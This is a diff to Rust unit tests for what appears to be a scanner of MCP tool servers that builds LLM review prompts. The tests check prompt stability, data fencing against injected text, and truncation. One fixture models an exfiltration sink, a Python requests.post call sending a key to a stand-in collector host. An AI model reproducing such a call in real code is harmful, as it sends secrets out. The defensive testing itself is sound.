@@ -3,7 +3,7 @@
 
 mod support;
 
-use mcp_scan_core::{Analyzer, AnalyzerState, Severity, taxonomy::by_threat};
+use mcp_scan_core::{Analyzer, AnalyzerState, CodeExcerpt, Severity, taxonomy::by_threat};
 use mcp_scan_llm::{
     PromptBuilder, Template, ToolOutcome, ToolResult, Usage, Verdict, estimate_tokens, merge,
     verdict_finding,
@@ -67,15 +67,167 @@ fn oversized_evidence_is_capped_by_priority_and_instructions_are_never_cut() {
 }
 
 #[test]
-fn prompt_hash_ignores_the_random_delimiter_but_not_the_code() {
+fn unchanged_code_gets_a_byte_identical_prompt_and_changed_code_a_new_delimiter() {
     let b = builder();
     let one = b.build(&leaky_format_note());
     let two = b.build(&leaky_format_note());
-    assert_ne!(one.open, two.open, "fresh delimiters per request");
+    assert_eq!(one.system, two.system);
+    assert_eq!(
+        one.user, two.user,
+        "same data, same prompt: stable verdicts"
+    );
     assert_eq!(one.canonical_hash, two.canonical_hash);
     let mut changed = leaky_format_note();
     changed.flows[0].path[1].location.line = 10;
-    assert_ne!(b.build(&changed).canonical_hash, one.canonical_hash);
+    let other = b.build(&changed);
+    assert_ne!(other.canonical_hash, one.canonical_hash);
+    assert_ne!(other.open, one.open, "the delimiter key follows the data");
+}
+
+#[test]
+fn fixed_instructions_are_an_identical_prefix_and_the_delimiter_fences_only_data() {
+    let b = builder();
+    let tools = representative();
+    let prompts: Vec<_> = tools.iter().map(|t| b.build(t)).collect();
+    for p in &prompts[1..] {
+        assert_eq!(
+            p.system.as_bytes(),
+            prompts[0].system.as_bytes(),
+            "the system text is the same for every tool"
+        );
+        assert_ne!(p.open, prompts[0].open);
+    }
+    for p in &prompts {
+        assert!(
+            !p.system.contains(&p.open),
+            "no per-request value in the prefix"
+        );
+        assert!(p.user.starts_with("Declared by the server:\n<<<DATA "));
+        assert_eq!(
+            p.user.matches(&p.open).count(),
+            p.user.matches(&p.close).count()
+        );
+        // Everything the server wrote sits inside a fence.
+        let declared = p.user.find("tool: ").expect("declared text");
+        assert!(p.user[..declared].ends_with(&format!("{}\n", p.open)));
+    }
+}
+
+#[test]
+fn thin_evidence_prompt_carries_the_code_fenced_and_within_the_budget() {
+    let b = builder();
+    let mut thin = honest_add();
+    let body = "def add(a, b):\n    total = a + b\n    return total\n";
+    thin.code = vec![
+        CodeExcerpt {
+            location: at("server.py", 3, "def add(a, b):"),
+            function: "server.add".into(),
+            text: body.into(),
+        },
+        CodeExcerpt {
+            location: at("helpers.py", 1, "def pad():"),
+            function: "helpers.pad".into(),
+            // Far more than the budget leaves.
+            text: "def pad():\n".to_string()
+                + &"    x = requests.post(url, data=payload)\n".repeat(400),
+        },
+    ];
+    let p = b.build(&thin);
+    let code_at = p.user.find("Source of the tool").expect("code section");
+    let after = &p.user[code_at..];
+    assert!(after.contains(&format!(
+        "{}\n# server.add (server.py:3)\n{}",
+        p.open,
+        body.trim_end()
+    )));
+    assert!(after.contains("# helpers.pad (helpers.py:1)"));
+    assert!(after.contains("# ... (cut to fit the size limit)"));
+    assert!(
+        after.contains(&format!("# ... (cut to fit the size limit)\n{}", p.close)),
+        "the code is fenced as data"
+    );
+    assert!(
+        p.estimated_tokens <= u64::from(b.template().max_prompt_tokens),
+        "{}",
+        p.estimated_tokens
+    );
+    assert!(p.estimated_tokens <= 1500);
+    // Cut at whole lines: no call is left open.
+    for line in after.lines().filter(|l| l.contains("requests.post")) {
+        assert!(line.ends_with("data=payload)"), "{line}");
+    }
+    // Twin: without code (rich evidence or none given), no code section.
+    assert!(!b.build(&honest_add()).user.contains("Source of the tool"));
+}
+
+#[test]
+fn cutting_keeps_the_sink_end_of_a_flow_and_whole_calls() {
+    let b = builder();
+    let mut t = leaky_format_note();
+    let long_call = format!(
+        "requests.post(\"https://collector.example/upload\", data=json.dumps({{'key': key, 'pad': '{}'}}), timeout=5)",
+        "z".repeat(300)
+    );
+    let f = &mut t.flows[0];
+    let first = f.path[0].clone();
+    let last = f.path[f.path.len() - 1].clone();
+    let mut path = vec![first];
+    for i in 0..8 {
+        let mut hop = last.clone();
+        hop.location.line = 20 + i;
+        hop.note = format!("value = transform_{i}(value, {})", "y".repeat(80));
+        path.push(hop);
+    }
+    let mut sink = last.clone();
+    sink.location.file = "sink.py".into();
+    sink.location.line = 99;
+    sink.note = long_call;
+    path.push(sink);
+    f.path = path;
+    let p = b.build(&t);
+    let item = p
+        .evidence
+        .iter()
+        .find(|e| e.text.contains(" flow: "))
+        .expect("the flow is shown");
+    assert!(
+        item.text.chars().count() <= b.template().max_item_chars as usize,
+        "{}",
+        item.text
+    );
+    assert!(
+        item.text.contains("sink.py:99 requests.post("),
+        "the sink end stays: {}",
+        item.text
+    );
+    assert!(
+        !item.text.trim_end().ends_with("requests.post("),
+        "{}",
+        item.text
+    );
+    let sink_line = item.text.lines().last().expect("lines");
+    assert_eq!(
+        sink_line.matches('(').count(),
+        sink_line.matches(')').count(),
+        "whole calls: {sink_line}"
+    );
+    assert!(
+        item.text.contains("hop(s) ..."),
+        "middle hops elided: {}",
+        item.text
+    );
+    // Twin: a short flow is shown whole.
+    let small = b.build(&leaky_format_note());
+    let whole = small
+        .evidence
+        .iter()
+        .find(|e| e.text.contains(" flow: "))
+        .expect("flow");
+    assert!(
+        !whole.text.contains('…') && !whole.text.contains("hop(s)"),
+        "{}",
+        whole.text
+    );
 }
 
 #[test]
